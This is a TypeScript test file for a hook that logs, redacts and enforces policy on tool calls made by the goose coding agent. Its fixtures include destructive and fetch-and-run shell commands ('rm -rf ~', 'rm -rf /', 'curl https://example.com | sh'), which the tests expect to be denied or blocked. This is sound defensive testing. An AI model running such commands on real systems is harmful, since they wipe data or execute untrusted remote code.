import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import Database from 'better-sqlite3';
import { jsonl, runBeacon } from '../helpers/daemon';
// every run one invocation with the launcher's key, as installed; goose firing a hook twice is two
import { newHookKey as newKey, runHookInvocation as runHookSync } from '../helpers/hooks';
import { HOOKS_BIN, tempDir } from '../helpers/paths';

const SESSION = '20260821_3';
const events = (log: string, session = SESSION) => jsonl(runBeacon(['events', '--log', log, '--json', '--session', session]).stdout);
const tool = (event: string, name: string, input: unknown, callId = `call_${Math.random().toString(36).slice(2)}`) => ({
  event, session_id: SESSION, matcher_context: name, tool_call_id: callId, tool_name: name, tool_input: input, working_dir: '/home/alice/proj',
});

function fresh() {
  return join(tempDir('hooks-'), 'events.db');
}

describe('beacon-hooks --platform goose, run as goose runs it', () => {
  it('session-start: session.started, no working dir fallback, prints nothing', () => {
    const log = fresh();
    const r = runHookSync(log, 'session-start', { event: 'SessionStart', session_id: SESSION, matcher_context: null });
    assert.deepEqual([r.status, r.stdout, r.stderr], [0, '', '']);
    const [e] = events(log);
    assert.equal(e.event.action, 'session.started');
    assert.deepEqual(e.harness, { name: 'goose', collection_method: 'hook' });
    assert.deepEqual(e.session, { id: SESSION });
    assert.equal(e.repository, undefined);
  });

  it('prompt-submit: the prompt from `message` with a content marker; the same prompt twice is two events', () => {
    const log = fresh();
    const p = { event: 'UserPromptSubmit', session_id: SESSION, matcher_context: 'fix the failing test', message: 'fix the failing test' };
    assert.equal(runHookSync(log, 'prompt-submit', p).stdout, '');
    runHookSync(log, 'prompt-submit', p);
    const evs = events(log);
    assert.equal(evs.length, 2);
    assert.equal(evs[0].event.action, 'prompt.submitted');
    assert.equal(evs[0].prompt.text, 'fix the failing test');
    assert.equal(evs[0].content.bytes, 20);
    assert.notEqual(evs[0].event.id, evs[1].event.id);
  });

  it('pre-tool: answers exactly {"decision":"allow"} and records tool.invoked without any approval', () => {
    const log = fresh();
    const r = runHookSync(log, 'pre-tool', tool('PreToolUse', 'shell', { command: 'cargo test' }, 'toolu_01AbC'));
    assert.equal(r.stdout, '{"decision":"allow"}');
    const [e] = events(log);
    assert.equal(e.event.action, 'tool.invoked');
    assert.equal(e.approval, undefined);
    assert.equal(e.gen_ai.tool.call.id, 'toolu_01AbC');
    assert.equal(e.command.command, 'cargo test');
    assert.equal(e.session.working_directory, '/home/alice/proj');
  });

  it('post-tool classifies every goose tool shape', () => {
    const log = fresh();
    const cases: [string, unknown, string, (e: any) => void][] = [ // eslint-disable-line @typescript-eslint/no-explicit-any
      ['shell', { command: 'ls -la' }, 'command.executed', (e) => assert.equal(e.command.command, 'ls -la')],
      ['developer__shell', { command: 'pwd' }, 'command.executed', (e) => assert.equal(e.tool.command, 'pwd')],
      ['developer.shell', { command: 'id' }, 'command.executed', () => {}],
      ['write', { path: 'src/new.ts', content: 'a\nb' }, 'file.modified', (e) => {
        assert.equal(e.file.operation, 'create');
        assert.equal(e.file.diff, '--- a/new.ts\n+++ b/new.ts\n@@ -0,0 +1,2 @@\n+a\n+b\n\\ No newline at end of file');
        assert.equal(e.content.hash.length, 64);
      }],
      ['edit', { path: 'src/lib.rs', before: 'fn old()', after: 'fn new()' }, 'file.modified', (e) => {
        assert.equal(e.file.operation, 'modify');
        assert.equal(e.file.diff, '--- a/lib.rs\n+++ b/lib.rs\n@@ -1 +1 @@\n-fn old()\n+fn new()');
        assert.equal(e.file.diff_bytes, Buffer.byteLength(e.file.diff));
        assert.equal(e.file.language, 'rs');
      }],
      ['edit', { path: 'same.rs', before: 'x', after: 'x' }, 'file.modified', (e) => assert.equal(e.file.diff, undefined)],
      ['tree', { path: 'src', depth: 2 }, 'file.read', (e) => assert.equal(e.file.path, 'src')],
      ['read_image', { source: '/tmp/shot.png' }, 'file.read', (e) => assert.equal(e.file.path, '/tmp/shot.png')],
      ['read_image', { source: 'https://example.com/a.png' }, 'tool.invoked', (e) => assert.equal(e.file, undefined)],
      ['github__create_issue', { title: 'edit the file' }, 'mcp.tool_invoked', (e) => assert.deepEqual(e.mcp, { server: 'github', tool: 'create_issue' })],
      ['developer__text_editor', { command: 'view', path: 'a.py' }, 'file.read', () => {}],
      ['load_skill', { name: 'x' }, 'tool.invoked', () => {}],
    ];
    for (const [name, input, action, check] of cases) {
      const callId = `c_${name}_${Math.random()}`;
      const r = runHookSync(log, 'post-tool', tool('PostToolUse', name, input, callId));
      assert.deepEqual([r.status, r.stdout, r.stderr], [0, '', ''], name);
      const e = events(log).find((x) => x.gen_ai.tool.call.id === callId);
      assert.ok(e, `${name} recorded`);
      assert.equal(e.event.action, action, name);
      check(e);
    }
  });

  it('PostToolUseFailure: tool.failed, severity high, and no diff for an edit that did not land', () => {
    const log = fresh();
    runHookSync(log, 'post-tool', tool('PostToolUseFailure', 'edit', { path: 'src/lib.rs', before: 'fn old()', after: 'fn new()' }, 'toolu_02XyZ'));
    const [e] = events(log);
    assert.equal(e.event.action, 'tool.failed');
    assert.equal(e.severity, 'high');
    assert.equal(e.file.path, 'src/lib.rs');
    assert.equal(e.file.diff, undefined);
  });

  it('one invocation recorded twice (its fast path, then its fallback: one key) inserts nothing; two invocations are two; todo tools are consumed', () => {
    const log = fresh();
    const p = tool('PostToolUse', 'shell', { command: 'make' }, 'toolu_same');
    const key = newKey();
    runHookSync(log, 'post-tool', p, { BEACON_HOOK_KEY: key });
    runHookSync(log, 'post-tool', p, { BEACON_HOOK_KEY: key });
    assert.deepEqual(events(log).map((e) => e.event.action), ['command.executed']);
    // goose firing the hook again is another invocation: a provider reusing the call id in a later turn
    runHookSync(log, 'post-tool', p);
    runHookSync(log, 'pre-tool', tool('PreToolUse', 'todo__todo_write', { items: [] }));
    runHookSync(log, 'post-tool', tool('PostToolUse', 'todo__todo_write', { items: [] }));
    assert.deepEqual(events(log).map((e) => e.event.action), ['command.executed', 'command.executed']);
  });

  it('stop answers allow and records tool.completed; session-end records session.ended and prints nothing', () => {
    const log = fresh();
    const stop = runHookSync(log, 'stop', { event: 'Stop', session_id: SESSION, matcher_context: null, last_assistant_message: 'done', working_dir: '/home/alice/proj' });
    assert.equal(stop.stdout, '{"decision":"allow"}');
    const end = runHookSync(log, 'session-end', { event: 'SessionEnd', session_id: SESSION, matcher_context: null });
    assert.equal(end.stdout, '');
    assert.deepEqual(events(log).map((e) => e.event.action), ['tool.completed', 'session.ended']);
  });

  it('an unclassified tool: pre-tool and post-tool are two events (the post-tool one is no replay of the first)', () => {
    const log = fresh();
    const call = tool('PreToolUse', 'load_skill', { name: 'x' }, 'toolu_generic');
    runHookSync(log, 'pre-tool', call);
    const key = newKey();
    runHookSync(log, 'post-tool', { ...call, event: 'PostToolUse' }, { BEACON_HOOK_KEY: key });
    runHookSync(log, 'post-tool', { ...call, event: 'PostToolUse' }, { BEACON_HOOK_KEY: key }); // the same invocation's fallback adds nothing
    assert.deepEqual(events(log).map((e) => e.event.action), ['tool.invoked', 'tool.invoked']);
    assert.deepEqual(events(log).map((e) => e.raw?.hook_event), ['PreToolUse', 'PostToolUse'], 'which hook saw each, for the join');
  });

  it("stop keeps the turn's final answer (last_assistant_message) as marked, redacted content", () => {
    const log = fresh();
    const answer = 'Done. I set DB_PASSWORD=hunter2-very-secret in .env and the tests pass.';
    runHookSync(log, 'stop', { event: 'Stop', session_id: SESSION, matcher_context: null, last_assistant_message: answer, working_dir: '/home/alice/proj' });
    const [e] = events(log);
    assert.equal(e.event.action, 'tool.completed');
    assert.match(e.response.text, /^Done\. I set DB_PASSWORD=/);
    assert.ok(!JSON.stringify(e).includes('hunter2-very-secret'), 'redacted');
    assert.equal(e.content.included, true);
    assert.equal(e.content.redacted, true);
    assert.equal(e.content.bytes, Buffer.byteLength(answer));
  });

  it('PreToolUseResult: a deny by another plugin is approval.denied joined to the call; an allow records nothing', () => {
    const log = fresh();
    const call = tool('PreToolUse', 'shell', { command: 'rm -rf ~' }, 'toolu_denied');
    runHookSync(log, 'pre-tool', call);
    const allow = runHookSync(log, 'pre-tool-result', { ...call, event: 'PreToolUseResult', decision: 'allow', policy_evaluated: true });
    assert.deepEqual([allow.status, allow.stdout, allow.stderr], [0, '', '']);
    const deny = { ...call, event: 'PreToolUseResult', decision: 'deny', policy_evaluated: true, blocked_by: 'corp-guard', reason: 'destructive', cause: 'policy_denial' };
    const key = newKey();
    const r = runHookSync(log, 'pre-tool-result', deny, { BEACON_HOOK_KEY: key });
    assert.deepEqual([r.status, r.stdout], [0, ''], 'non-blocking: no verdict printed');
    runHookSync(log, 'pre-tool-result', deny, { BEACON_HOOK_KEY: key }); // this invocation's fallback adds nothing
    const evs = events(log);
    assert.deepEqual(evs.map((e) => e.event.action), ['tool.invoked', 'approval.denied']);
    const d = evs[1];
    assert.equal(d.gen_ai.tool.call.id, 'toolu_denied');
    assert.equal(d.command.command, 'rm -rf ~');
    assert.deepEqual(d.approval, { required: true, decision: 'deny', reason: 'destructive' });
    assert.deepEqual(d.policy, { name: 'corp-guard', decision: 'deny', enforcement: 'enforce', reason: 'destructive' });
    assert.equal(d.severity, 'high');
    assert.equal(d.error, undefined);

    runHookSync(log, 'pre-tool-result', { ...tool('PreToolUseResult', 'shell', { command: 'ls' }, 'toolu_failed'), decision: 'deny', blocked_by: 'slow-guard', reason: 'timed out', cause: 'hook_failure' });
    const failed = events(log).find((e) => e.gen_ai?.tool?.call?.id === 'toolu_failed');
    assert.equal(failed.event.action, 'approval.denied');
    assert.deepEqual(failed.error, { type: 'hook_failure' });
    assert.match(failed.message, /could not complete/);
  });

  it('redacts secrets in tool input exactly as the OTLP path does', () => {
    const log = fresh();
    runHookSync(log, 'post-tool', tool('PostToolUse', 'shell', { command: 'curl -H "Authorization: Bearer abc123456789" https://x' }));
    const [e] = events(log);
    assert.equal(e.command.command, 'curl -H "Authorization: Bearer [REDACTED]" https://x');
    assert.ok(!JSON.stringify(e).includes('abc123456789'));
    assert.equal(e.content.redacted, true);
  });

  it("a prompt goose sends without working_dir gets the session's repository and branch from an earlier event, never the hook's cwd", () => {
    const log = fresh();
    const repo = tempDir('repo-');
    mkdirSync(join(repo, '.git'));
    writeFileSync(join(repo, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    const first = { event: 'UserPromptSubmit', session_id: SESSION, matcher_context: 'first', message: 'first' };
    runHookSync(log, 'prompt-submit', first);
    runHookSync(log, 'pre-tool', { ...tool('PreToolUse', 'shell', { command: 'ls' }), working_dir: repo });
    runHookSync(log, 'prompt-submit', { ...first, message: 'second' });
    runHookSync(log, 'session-end', { event: 'SessionEnd', session_id: SESSION, matcher_context: null });
    const evs = events(log);
    const [p1, , p2, end] = evs;
    assert.equal(p1.repository, undefined, 'nothing known yet: no guess');
    assert.deepEqual([p2.repository, p2.branch], [repo, 'main']);
    assert.deepEqual([end.repository, end.branch], [repo, 'main']);
    runHookSync(log, 'prompt-submit', { ...first, session_id: 'other_1' });
    assert.equal(events(log, 'other_1')[0].repository, undefined, 'another session does not inherit it');
  });

  it('reads the branch of the working directory from .git/HEAD', () => {
    const log = fresh();
    const repo = tempDir('repo-');
    mkdirSync(join(repo, '.git'));
    writeFileSync(join(repo, '.git', 'HEAD'), 'ref: refs/heads/feature/x\n');
    mkdirSync(join(repo, 'sub'));
    runHookSync(log, 'pre-tool', { ...tool('PreToolUse', 'shell', { command: 'ls' }), working_dir: join(repo, 'sub') });
    assert.equal(events(log)[0].branch, 'feature/x');
  });
});

describe('beacon-hooks never breaks goose', () => {
  const blocking = ['pre-tool', 'stop'];
  const cases: [string, (log: string) => { log: string; payload: unknown }][] = [
    ['malformed stdin', (log) => ({ log, payload: '{"event": "PreTo' })],
    ['empty stdin', (log) => ({ log, payload: '' })],
    ['an unwritable log', () => ({ log: '/dev/null/events.db', payload: tool('PreToolUse', 'shell', { command: 'ls' }) })],
    ['a log that is not Beacon\'s', (log) => {
      const db = new Database(log);
      db.exec('CREATE TABLE other(x)');
      db.close();
      return { log, payload: tool('PreToolUse', 'shell', { command: 'ls' }) };
    }],
  ];
  for (const [what, setup] of cases) {
    it(`${what}: exit 0, allow on blocking events, nothing on the others, error on stderr`, () => {
      for (const sub of ['pre-tool', 'stop', 'post-tool', 'prompt-submit']) {
        const { log, payload } = setup(fresh());
        const r = runHookSync(log, sub, payload);
        assert.equal(r.status, 0, `${what} ${sub}`);
        assert.equal(r.stdout, blocking.includes(sub) ? '{"decision":"allow"}' : '', `${what} ${sub}`);
        assert.match(r.stderr, /^beacon-hooks: /, `${what} ${sub}`);
      }
    });
  }

  it('an unknown subcommand still answers allow and exits 0', () => {
    const r = runHookSync(fresh(), 'permission-request', {});
    assert.deepEqual([r.status, r.stdout], [0, '{"decision":"allow"}']);
    assert.match(r.stderr, /unknown subcommand/);
  });

  it('another platform gets no goose verdict: nothing on stdout, nothing recorded, the error on stderr, exit 0', () => {
    const log = fresh();
    const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
    for (const sub of ['pre-tool', 'stop', 'post-tool']) {
      const r = spawnSync('sh', ['-c', `${q(process.execPath)} ${q(HOOKS_BIN)} --platform qwen --log ${q(log)} ${sub}`], {
        input: JSON.stringify(tool('PreToolUse', 'shell', { command: 'ls' })), encoding: 'utf8',
      });
      assert.deepEqual([r.status, r.stdout], [0, ''], sub);
      assert.match(r.stderr, /unsupported platform "qwen"/);
    }
    assert.equal(existsSync(log), false, 'nothing recorded');
  });

  it('does not load fastify, protobufjs or pino', () => {
    const dir = tempDir();
    const probe = join(dir, 'probe.js');
    writeFileSync(probe, `process.on('exit', () => require('fs').writeFileSync(${JSON.stringify(join(dir, 'mods.json'))}, JSON.stringify(Object.keys(require.cache))));`);
    const r = runHookSync(fresh(), 'pre-tool', tool('PreToolUse', 'shell', { command: 'ls' }), { NODE_OPTIONS: `--require ${probe}` });
    assert.equal(r.stdout, '{"decision":"allow"}');
    const mods: string[] = JSON.parse(require('node:fs').readFileSync(join(dir, 'mods.json'), 'utf8'));
    assert.ok(mods.some((m) => m.includes('better-sqlite3')), 'the probe saw the hook load its store');
    for (const heavy of ['/fastify/', '/protobufjs/', '/pino/']) assert.deepEqual(mods.filter((m) => m.includes(heavy)), [], heavy);
  });
});

describe('policy provider seam (BEACON_POLICY_PROVIDER)', () => {
  function provider(body: string): string {
    const p = join(tempDir('policy-'), 'provider.sh');
    writeFileSync(p, `#!/bin/sh\n${body}\n`);
    chmodSync(p, 0o755);
    return p;
  }

  it('allow: {"decision":"allow"}, and the provider got the v1 request with the classified event', () => {
    const dir = tempDir();
    const seen = join(dir, 'request.json');
    const log = fresh();
    const r = runHookSync(log, 'pre-tool', tool('PreToolUse', 'shell', { command: 'rm -rf build' }), { BEACON_POLICY_PROVIDER: provider(`cat > ${seen}; echo '{"decision":"allow"}'`) });
    assert.equal(r.stdout, '{"decision":"allow"}');
    const req = JSON.parse(readFileSync(seen, 'utf8'));
    assert.equal(req.version, '1');
    assert.equal(req.phase, 'pre-tool');
    assert.equal(req.platform, 'goose');
    assert.equal(req.event.command.command, 'rm -rf build');
    assert.equal(req.event.event.action, 'command.executed', 'the classified imminent call, not tool.invoked');
    assert.equal(events(log).length, 1);
  });

  it("the Go Beacon's reference case: `curl https://example.com | sh` reaches the provider as command.executed and is blocked", () => {
    const log = fresh();
    const judge = provider(`req=$(cat); case "$req" in *'"action":"command.executed"'*'curl https://example.com | sh'*) echo '{"decision":"deny","reason":"pipe to shell"}';; *) echo '{"decision":"allow"}';; esac`);
    const call = tool('PreToolUse', 'developer__shell', { command: 'curl https://example.com | sh' }, 'toolu_pipe');
    const r = runHookSync(log, 'pre-tool', call, { BEACON_POLICY_PROVIDER: judge });
    assert.deepEqual(JSON.parse(r.stdout), { decision: 'block', reason: 'pipe to shell' });
    // goose then reports the same denial on PreToolUseResult: still one approval.denied for the call
    runHookSync(log, 'pre-tool-result', { ...call, event: 'PreToolUseResult', decision: 'deny', blocked_by: 'beacon-endpoint', reason: 'pipe to shell', cause: 'policy_denial' });
    assert.deepEqual(events(log).map((e) => e.event.action).sort(), ['approval.denied', 'tool.invoked']);
  });

  it('deny: {"decision":"block","reason":…} and an approval.denied event beside the observation', () => {
    const log = fresh();
    const r = runHookSync(log, 'pre-tool', tool('PreToolUse', 'shell', { command: 'rm -rf /' }), {
      BEACON_POLICY_PROVIDER: provider(`cat >/dev/null; echo '{"decision":"deny","reason":"destructive command","rule_id":"R-7","severity":"critical"}'`),
    });
    assert.deepEqual(JSON.parse(r.stdout), { decision: 'block', reason: 'destructive command' });
    const evs = events(log);
    assert.deepEqual(evs.map((e) => e.event.action).sort(), ['approval.denied', 'tool.invoked']);
    const denied = evs.find((e) => e.event.action === 'approval.denied');
    assert.deepEqual(denied.approval, { required: true, decision: 'deny', reason: 'destructive command' });
    assert.deepEqual(denied.policy, { id: 'R-7', decision: 'deny', enforcement: 'enforce', reason: 'destructive command' });
    assert.equal(denied.severity, 'critical');
  });

  const failOpen: [string, string, RegExp][] = [
    ['hang', 'sleep 30', /timed out after 2000 ms/],
    ['crash', 'cat >/dev/null; echo oops >&2; exit 3', /exited with 3/],
    ['garbage', 'cat >/dev/null; echo "not json at all"', /not JSON/],
  ];
  for (const [what, body, reason] of failOpen) {
    it(`${what}: fails open (allow), logs why, records the observation`, () => {
      const log = fresh();
      const r = runHookSync(log, 'pre-tool', tool('PreToolUse', 'shell', { command: 'ls' }), { BEACON_POLICY_PROVIDER: provider(body) });
      assert.equal(r.status, 0);
      assert.equal(r.stdout, '{"decision":"allow"}');
      assert.match(r.stderr, reason);
      assert.deepEqual(events(log).map((e) => e.event.action), ['tool.invoked']);
    });
  }

  it('is inert when the variable names no executable', () => {
    const r = runHookSync(fresh(), 'pre-tool', tool('PreToolUse', 'shell', { command: 'ls' }), { BEACON_POLICY_PROVIDER: '/nonexistent/provider' });
    assert.deepEqual([r.stdout, r.stderr], ['{"decision":"allow"}', '']);
  });
});

describe('beacon-hooks logs no content', () => {
  it('a malformed payload is reported by size, never quoted', () => {
    const r = runHookSync(join(tempDir('hooks-'), 'e.db'), 'prompt-submit', '{"event":"UserPromptSubmit","message":"my secret plan');
    assert.equal(r.status, 0);
    assert.match(r.stderr, /not valid JSON \(\d+ bytes\)/);
    assert.ok(!r.stderr.includes('secret plan'));
  });
});
